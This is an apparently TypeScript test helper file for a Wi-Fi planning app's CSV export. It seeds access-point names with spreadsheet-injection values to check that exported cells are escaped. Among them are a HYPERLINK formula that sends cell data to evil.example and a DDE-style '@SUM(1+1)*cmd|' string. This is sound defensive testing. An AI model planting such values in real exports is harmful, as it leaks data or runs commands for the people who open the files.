// Test helpers of the exports feature (imported by *.test.ts files only).
import { randomUUID } from 'node:crypto';
import { buildProject, generateProject, writeEsx, type EsxEntity, type EsxProject } from '@airlens/esx';
import { expect } from 'vitest';
import type { TestApp } from '../../test/test-app';
import { authHeaders, cookiesOf, type TestSession } from '../auth/test-accounts';
import { latestCodeFor } from '../sharing/sharing-fixtures';
import { uploadBytes, waitForFinalStatus } from '../uploads/uploads.test-helpers';

/** Names that would run as formulas in a spreadsheet if a CSV cell held them unchanged. */
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
export const AT_NAME = '@SUM(1+1)*cmd|';
export const PLUS_NAME = '+1-2';
export const MINUS_NAME = '-3+4';
export const TAB_NAME = '\tTabbed';
export const EXTERNAL_ANTENNA_NAME = 'ANT-3x3-D608C';
export const TAG_KEY = 'Installer';
export const TAG_VALUE = 'Contoso Networks';

function idOf(entity: EsxEntity): string {
  if (typeof entity.id !== 'string') {
    throw new Error('an entity without an id');
  }
  return entity.id;
}

function entitiesOf(project: EsxProject, collection: string): EsxEntity[] {
  const entities = project.collections.get(collection);
  if (entities === undefined) {
    throw new Error(`the generated project has no ${collection}`);
  }
  return entities;
}

/**
 * A generated hybrid project (planned APs and surveys on two floors) made to hold what a bill of materials must
 * get right: a second model, an AP named like a spreadsheet formula with a tag, an external antenna, a hidden AP
 * (never counted) and a neighbour that is not "mine" (not counted while others are).
 */
export function buildExportsProject(): { project: EsxProject; formulaApId: string; antennaApId: string } {
  const project = generateProject({
    kind: 'hybrid',
    floors: 2,
    aps: 6,
    surveys: 3,
    scansPerSurvey: 40,
    maxImagePixels: 400,
    seed: 7,
  });
  const radioApIds = new Set(entitiesOf(project, 'simulatedRadios').map((radio) => radio.accessPointId));
  const planned = entitiesOf(project, 'accessPoints').filter((ap) => radioApIds.has(ap.id));
  const [formulaAp, otherModelAp, hiddenAp, antennaAp, minusAp, tabAp] = planned;
  if (
    formulaAp === undefined ||
    otherModelAp === undefined ||
    hiddenAp === undefined ||
    antennaAp === undefined ||
    minusAp === undefined ||
    tabAp === undefined
  ) {
    throw new Error('the generated project has too few planned APs');
  }
  const tagKeyId = randomUUID();
  project.collections.set('tagKeys', [{ id: tagKeyId, key: TAG_KEY, status: 'CREATED' }]);
  formulaAp.name = FORMULA_NAME;
  formulaAp.tags = [{ tagKeyId, value: TAG_VALUE }];
  otherModelAp.name = AT_NAME;
  otherModelAp.model = 'AP-515';
  hiddenAp.hidden = true;
  antennaAp.name = PLUS_NAME;
  minusAp.name = MINUS_NAME;
  tabAp.name = TAB_NAME;
  const antennaTypeId = randomUUID();
  entitiesOf(project, 'antennaTypes').push({
    id: antennaTypeId,
    name: EXTERNAL_ANTENNA_NAME,
    frequencyBand: 'FIVE',
    apCoupling: 'EXTERNAL_ANTENNA',
    status: 'CREATED',
  });
  for (const radio of entitiesOf(project, 'simulatedRadios')) {
    if (radio.accessPointId === antennaAp.id) {
      radio.antennaTypeId = antennaTypeId;
    }
  }
  // The typed views again, so they show the edits made to the raw entities above.
  return {
    project: buildProject(project.archiveVersion, project.collections, project.binaries),
    formulaApId: idOf(formulaAp),
    antennaApId: idOf(antennaAp),
  };
}

/** Uploads a project and waits for its import: answers the project id. */
export async function importProject(t: TestApp, session: TestSession, project: EsxProject): Promise<string> {
  const fileUploadId = await uploadBytes(t, session, writeEsx(project));
  const answer = await waitForFinalStatus(t, session, fileUploadId);
  expect(answer).toMatchObject({ status: 'COMMITTED', rollbackReason: null });
  return answer.projectId ?? '';
}

/** A secure-project-view guest of a project, signed in through the sharing feature's one-time code. */
export async function guestOf(
  t: TestApp,
  owner: TestSession,
  projectId: string,
  email: string,
): Promise<TestSession> {
  const link = await t.app.inject({
    method: 'POST',
    url: `/shareapi/v1/projects/${projectId}/secure-links`,
    headers: authHeaders(owner),
    payload: { email },
  });
  expect(link.statusCode).toBeLessThan(300);
  const { keyId } = link.json<{ keyId: string }>();
  expect(
    (await t.app.inject({ method: 'POST', url: `/shareapi/secureProjectView/${keyId}/otp` })).statusCode,
  ).toBe(202);
  const otp = await latestCodeFor(t, email);
  const session = await t.app.inject({
    method: 'POST',
    url: `/shareapi/secureProjectView/${keyId}/session`,
    payload: { otp },
  });
  expect(session.statusCode).toBe(200);
  const cookies = cookiesOf(session);
  return {
    cookie: `airlens_session=${cookies.airlens_session ?? ''}; airlens_csrf=${cookies.airlens_csrf ?? ''}`,
    csrfToken: String(session.headers.csrftoken),
    userId: session.json<{ userId: string }>().userId,
  };
}

/** A GET as `session` (no session at all with null). */
export function getAs(t: TestApp, session: TestSession | null, url: string) {
  return t.app.inject({
    method: 'GET',
    url,
    headers: session === null ? {} : authHeaders(session, false),
  });
}

/** Parses RFC 4180 text (quoted fields, doubled quotes, CRLF records) into records of fields. */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    const char = text[i];
    if (char === '"' && field === '') {
      // A quoted field: up to the quote that is not doubled.
      let value = '';
      let j = i + 1;
      for (;;) {
        if (j >= text.length) {
          throw new Error('unterminated quoted field');
        }
        if (text[j] === '"' && text[j + 1] === '"') {
          value += '"';
          j += 2;
          continue;
        }
        if (text[j] === '"') {
          break;
        }
        value += text[j];
        j += 1;
      }
      field = value;
      i = j + 1;
      if (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        throw new Error(`text after a closing quote at ${i}`);
      }
      continue;
    }
    if (char === ',') {
      record.push(field);
      field = '';
      i += 1;
      continue;
    }
    if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
      continue;
    }
    if (char === '\n' || char === '\r') {
      throw new Error(`bare line break at ${i}`);
    }
    field += char;
    i += 1;
  }
  if (field !== '' || record.length > 0) {
    throw new Error('the last record has no CRLF');
  }
  return records;
}
